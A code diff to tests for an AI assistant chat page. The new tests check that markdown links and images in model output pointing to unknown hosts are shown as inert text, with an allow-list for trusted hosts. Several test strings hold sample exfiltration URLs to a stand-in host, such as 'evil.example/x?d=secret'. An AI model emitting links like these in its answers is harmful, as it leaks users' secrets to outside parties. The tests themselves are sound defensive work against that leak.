@@ -2,7 +2,7 @@ import { renderInTestApp } from '@backstage/test-utils';
 import { screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { http, HttpResponse } from 'msw';
-import { TestApis, BASE_URL } from '../../__testUtils__/apis';
+import { TestApis, BASE_URL, TestConfig } from '../../__testUtils__/apis';
 import {
   ChatExchange,
   errorResponse,
@@ -20,9 +20,9 @@ beforeEach(() => {
   server.use(...backend.handlers);
 });
 
-async function renderChat() {
+async function renderChat(config?: TestConfig) {
   await renderInTestApp(
-    <TestApis>
+    <TestApis config={config}>
       <ChatPage />
     </TestApis>,
   );
@@ -278,12 +278,69 @@ describe('ChatPage', () => {
     expect(page.querySelector('script, img, iframe')).toBeNull();
     expect(page.querySelector('[onerror]')).toBeNull();
     expect(page.querySelector('a[href^="javascript:"]')).toBeNull();
-    // The image shows as a plain link to its URL, never loaded.
-    expect(screen.getByRole('link', { name: 'tracker' })).toHaveAttribute(
-      'href',
-      'https://evil.example/leak?q=secret',
-    );
+    // The image is never loaded; its host is no source's, so it is not even a link.
+    expect(page.querySelector('a[href*="evil.example"]')).toBeNull();
+    expect(answer()).toHaveTextContent('tracker (https://evil.example/…)');
     expect(win.__xss).toBeUndefined();
+  });
+
+  /** Streams one answer with the given sources and waits until it is complete. */
+  async function streamAnswer(text: string, sources = SOURCES) {
+    const { stream } = await ask('q');
+    stream.pushEvent({
+      type: 'conversation',
+      data: { conversationId: 'c1', messageId: 'm1' },
+    });
+    stream.pushEvent({ type: 'sources', data: { sources } });
+    stream.pushEvent({ type: 'delta', data: { text } });
+    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
+    stream.close();
+    await screen.findByRole('button', { name: 'Good answer' });
+  }
+
+  it('Model output can render click-to-exfiltrate links: a link to a host no source has shows as text naming the host', async () => {
+    await renderChat();
+    await streamAnswer(
+      '[click](https://evil.example/x?d=secret), ![logo](https://evil.example/p.png?d=secret), ' +
+        'https://evil.example/auto?d=secret and the [README](https://github.example/acme/payments/blob/main/README.md?plain=1).',
+    );
+
+    expect(document.querySelector('a[href*="evil.example"]')).toBeNull();
+    expect(answer()).toHaveTextContent(
+      'click (https://evil.example/…), logo (https://evil.example/…), https://evil.example/auto?d=secret and the README.',
+    );
+    // The host of a source (github.example/acme/payments#readme) stays clickable.
+    expect(
+      within(answer()).getByRole('link', { name: 'README' }),
+    ).toHaveAttribute(
+      'href',
+      'https://github.example/acme/payments/blob/main/README.md?plain=1',
+    );
+  });
+
+  it('Model output can render click-to-exfiltrate links: hosts on aiAssistant.chat.linkAllowList stay clickable', async () => {
+    await renderChat({
+      aiAssistant: {
+        chat: { linkAllowList: ['kubernetes.example', '*.wiki.example'] },
+      },
+    });
+    await streamAnswer(
+      'See [the docs](https://kubernetes.example/docs?v=1), [the wiki](https://team.wiki.example/page) ' +
+        'and [not this](https://wiki.example.evil.example/page).',
+    );
+
+    expect(
+      within(answer()).getByRole('link', { name: 'the docs' }),
+    ).toHaveAttribute('href', 'https://kubernetes.example/docs?v=1');
+    expect(
+      within(answer()).getByRole('link', { name: 'the wiki' }),
+    ).toHaveAttribute('href', 'https://team.wiki.example/page');
+    expect(
+      within(answer()).queryByRole('link', { name: 'not this' }),
+    ).toBeNull();
+    expect(answer()).toHaveTextContent(
+      'not this (https://wiki.example.evil.example/…)',
+    );
   });
 
   it('renders GFM tables and fenced code', async () => {
